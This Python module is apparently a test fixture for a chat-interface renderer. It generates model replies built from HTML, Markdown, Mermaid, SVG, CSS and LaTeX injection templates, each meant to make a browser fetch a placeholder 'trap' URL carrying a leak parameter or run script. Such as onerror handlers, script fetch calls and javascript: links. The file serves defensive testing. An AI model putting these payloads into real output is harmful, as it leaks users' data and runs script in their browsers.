"""Replies that try to make the browser fetch something from elsewhere, or run something."""

from __future__ import annotations

_FENCED = (
    'mermaid\nflowchart TD\n  A@{{ img: "{trap}", label: "x", w: 60, h: 60 }}',
    "mermaid\ngraph TD\n  A[\"<img src='{trap}'>\"]",
    'mermaid\n%%{{init: {{"themeCSS": "@import url({trap});"}}}}%%\ngraph TD\nA',
    'mermaid\nsequenceDiagram\n  links A: {{"x": "{trap}"}}',
    "svg\n<svg><image href='{trap}'/></svg>",
    "html\n<img src='{trap}'>",
    'vega-lite\n{{"data": {{"url": "{trap}"}}, "mark": "bar"}}',
    'graphviz\ndigraph {{ a [image="{trap}"] }}',
    'dot\ndigraph {{ a [image="{trap}"] }}',
    "css\n@import url({trap});",
    'geojson\n{{"type": "Point", "url": "{trap}"}}',
    "math\n\\includegraphics{{{trap}}}",
)
_HTML = (
    "<img src='{trap}'>",
    "<IMG SRC={trap}>",
    "<image src='{trap}'>",
    "<svg><image xlink:href='{trap}'/></svg>",
    "<svg><use href='{trap}#x'/></svg>",
    "<script src='{trap}'></script>",
    "<script>fetch('{trap}')</script>",
    "<iframe src='{trap}'></iframe>",
    "<object data='{trap}'></object>",
    "<embed src='{trap}'>",
    "<link rel='stylesheet' href='{trap}'>",
    "<link rel='preconnect' href='{trap}'>",
    "<link rel='dns-prefetch' href='{trap}'>",
    "<style>@import url({trap});</style>",
    "<style>* {{ background: url({trap}) }}</style>",
    "<p style='background: url({trap})'>x</p>",
    "<video src='{trap}' autoplay></video>",
    "<video poster='{trap}'></video>",
    "<audio src='{trap}' autoplay></audio>",
    "<source srcset='{trap}'>",
    "<meta http-equiv='refresh' content='0;url={trap}'>",
    "<base href='{trap}'>",
    "<form action='{trap}'><input autofocus onfocus='this.form.submit()'></form>",
    "<body onload=\"fetch('{trap}')\">",
    "<img src=x onerror=\"fetch('{trap}')\">",
    "<a href='{trap}' ping='{trap}'>x</a>",
    "<math><mtext href='{trap}'><img src='{trap}'></mtext></math>",
    "<table background='{trap}'><tr><td>x</td></tr></table>",
    "<noscript><img src='{trap}'></noscript>",
    "&lt;img src='{trap}'&gt;",
    "<!-- --><img src='{trap}'>",
)
_MARKDOWN = (
    "![x]({trap})",
    "![x][one]\n\n[one]: {trap}",
    '![x]( <{trap}> "title")',
    "[![x]({trap})](https://example.org)",
    "> ![x]({trap})",
    "- ![x]({trap})",
    "| a |\n|---|\n| ![x]({trap}) |",
    "`code` ![x]({trap}) `code`",
    "![[{trap}]]",
    "[x](javascript:fetch('{trap}'))",
    "[x](data:text/html,<script>fetch('{trap}')</script>)",
    ":material/{trap}: :streamlit:",
    "![x](\\{trap})",
    "[^1]\n\n[^1]: ![x]({trap})",
)
_FORMULAS = (
    "$\\href{{{trap}}}{{x}}$",
    "$$\\includegraphics{{{trap}}}$$",
    "$\\text{{<img src='{trap}'>}}$",
    "$\\style{{background: url({trap})}}{{x}}$",
    "\\(\\htmlStyle{{background: url({trap})}}{{x}}\\)",
    "$$\\htmlData{{x=<img src='{trap}'>}}{{x}}$$",
)


def replies(trap: str) -> list[str]:
    """The replies, each with the address that must not be asked, and a number of its own there."""
    fenced = [f"```{one}\n```" for one in _FENCED] + [f"~~~{one}\n~~~" for one in _FENCED[:2]]
    shapes = [*fenced, *_HTML, *_MARKDOWN, *_FORMULAS]
    return [one.format(trap=f"{trap}leak?name=ana&n={n}") for n, one in enumerate(shapes)]
